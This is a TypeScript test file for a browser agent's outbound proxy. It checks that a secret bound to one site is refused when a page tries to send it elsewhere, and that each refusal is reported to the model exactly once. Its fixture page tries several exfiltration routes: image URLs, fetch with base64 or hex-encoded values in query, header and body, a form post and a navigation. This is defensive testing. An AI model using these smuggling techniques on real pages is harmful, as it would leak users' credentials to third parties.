/**
 * The outbound secret check in real Chromium (issue 11, point 3): a page on the secret's bound site
 * holds the value (the site echoed it) and tries to send it to another, reachable site by image,
 * fetch (URL, header, body — plain and encoded), form post and navigation. The other site must never
 * receive it; a request to it without the value still goes through.
 *
 * Every refusal reaches the model exactly once, with the next tool result at the latest (issue 18
 * item 11: the next browser_open used to throw away refusals made after the previous result, and
 * browser_read / browser_screenshot never reported any).
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { secretsIn } from "../../../core/log/redaction.js";
import type { ToolResult } from "../../../core/tools/tool.js";
import { browserRig, type BrowserRig } from "./helpers.js";
import { TestSite } from "./pages.js";

const VALUE = "brwsr-CANARY/77+q";

/** How many refusals a tool result reports ("Sentinel refused N request(s)" notes, or an egress_denied error). */
function refusalsIn(result: ToolResult): number {
  const text = result.ok ? result.content : result.error;
  return [...text.matchAll(/Sentinel refused (\d+) request/g)].reduce((n, m) => n + Number(m[1]), 0);
}

/** Resolves once `done()` holds, polling (no fixed sleeps); throws after `ms`. */
async function until(done: () => boolean, what: string, ms = 15_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (!done()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe("browser: a vault value never leaves for a site it is not bound to", () => {
  let bound: TestSite;
  let other: TestSite;
  let rig: BrowserRig;
  const refused: string[] = [];
  let slowLookups = 0;

  beforeAll(async () => {
    bound = await TestSite.start();
    other = await TestSite.start();
    other.page("/ok.png", "x").page("/img.png", "x").page("/fetch", "x").page("/post", "posted").page("/nav", "<h1>landed</h1>");
    const B = other.origin;
    const enc = encodeURIComponent(VALUE);
    const b64 = Buffer.from(VALUE).toString("base64");
    bound.page(
      "/echo",
      `<h1>Your key is ${VALUE}</h1>
      <img src="${B}/ok.png?harmless=1">
      <img src="${B}/img.png?k=${enc}">
      <form id="f" method="post" action="${B}/post"><input name="k" value="${VALUE}"></form>
      <script>
        fetch("${B}/fetch?k=${b64}").catch(() => {});
        fetch("${B}/fetch", { headers: { "x-k": "${Buffer.from(VALUE).toString("hex")}" } }).catch(() => {});
        fetch("${B}/fetch", { method: "POST", body: JSON.stringify({ k: ${JSON.stringify(VALUE)} }) }).catch(() => {});
        setTimeout(() => { location.href = "${B}/nav?k=${enc}"; }, 300);
      </script>`,
    );
    bound.page("/plain", "<h1>plain</h1>");
    const boundOrigin = bound.origin;
    rig = await browserRig({
      allowed: [bound.hostPort, other.hostPort],
      // slow.test resolves (slowly) to a private address the proxy refuses: a judgment that takes time.
      resolve: async (host) => {
        if (host !== "slow.test") throw new Error(`unknown host ${host} (tests never resolve real names)`);
        slowLookups++;
        await new Promise((r) => setTimeout(r, 400));
        return [{ address: "10.20.30.40", family: 4 }];
      },
      secretCheck: (texts, origin) => {
        const names = origin === boundOrigin ? [] : secretsIn(texts.join("\n"), [{ name: "KEY", value: VALUE }]).map((s) => s.name!);
        if (names.length > 0) refused.push(origin);
        return names;
      },
    });
  }, 60_000);

  afterAll(async () => {
    await rig?.close();
    await bound?.close();
    await other?.close();
  });

  /** Makes the open page send a request on its own, outside any tool call (like a page's timer would). */
  const pageSends = async (script: string) => {
    await rig.runtime.use(rig.personId, async (session) => {
      await (await session.page()).evaluate(script);
    });
  };

  it("image, fetch (URL, header, body), navigation: refused when they carry the value; harmless requests pass", async () => {
    refused.length = 0;
    const result = await rig.run("browser_open", { url: `${bound.origin}/echo` });
    expect(result.ok).toBe(true);
    // Wait until the page's attempts were made (the check saw them) and the harmless image arrived.
    await until(() => refused.length >= 5 && other.hits.some((h) => h.url.startsWith("/ok.png")), "the page's five attempts");
    // Image, fetch by URL, header and body, navigation: each refused on its way to the other site.
    expect(new Set(refused)).toEqual(new Set([other.origin]));
    // Each refusal is told to the model once, with the result of the call it happened in or the next one (origin only).
    const next = await rig.run("browser_open", { url: `${bound.origin}/plain` });
    expect(JSON.stringify([result, next])).toMatch(/secret_unbound_destination/);
    expect(refusalsIn(result) + refusalsIn(next)).toBe(refused.length);
    const after = await rig.run("browser_read", {});
    expect(refusalsIn(after)).toBe(0);
    // The harmless image reached the other site; nothing that carries the value did.
    expect(other.hits.some((h) => h.url.startsWith("/ok.png"))).toBe(true);
    for (const hit of other.hits) expect(secretsIn(`${hit.url}\n${JSON.stringify(hit.headers)}\n${hit.body}`, [{ value: VALUE }]), hit.url).toEqual([]);
    expect(other.hits.map((h) => h.url.split("?")[0])).not.toContain("/nav");
  });

  it("a refusal made between tool calls is reported with the next result of any browser tool, exactly once", async () => {
    await rig.run("browser_open", { url: `${bound.origin}/plain` });
    for (const tool of ["browser_read", "browser_screenshot", "browser_open"] as const) {
      refused.length = 0;
      await pageSends(`fetch(${JSON.stringify(`${other.origin}/fetch?k=${encodeURIComponent(VALUE)}`)}).catch(() => {})`);
      await until(() => refused.length === 1, "the page's attempt");
      const result = await rig.run(tool, tool === "browser_open" ? { url: `${bound.origin}/plain` } : {});
      expect(result.ok, tool).toBe(true);
      expect(result.ok && result.content, tool).toContain(`${other.origin} (secret_unbound_destination)`);
      expect(refusalsIn(result), tool).toBe(1);
      expect(refusalsIn(await rig.run("browser_read", {})), `${tool}, then read`).toBe(0);
    }
  });

  it("a refusal still being judged when a tool starts is waited for and reported with that tool's result", async () => {
    await rig.run("browser_open", { url: `${bound.origin}/plain` });
    const lookups = slowLookups;
    await pageSends(`fetch("http://slow.test/x").catch(() => {})`);
    // The proxy is judging the request now (the slow name lookup runs); the tool must wait for its verdict.
    await until(() => slowLookups > lookups, "the proxy's lookup");
    const result = await rig.run("browser_read", {});
    expect(result.ok && result.content).toMatch(/Sentinel refused 1 request\(s\) of the page: http:\/\/slow\.test\/x \(\w+\)/);
    expect(refusalsIn(await rig.run("browser_read", {}))).toBe(0);
  });
});
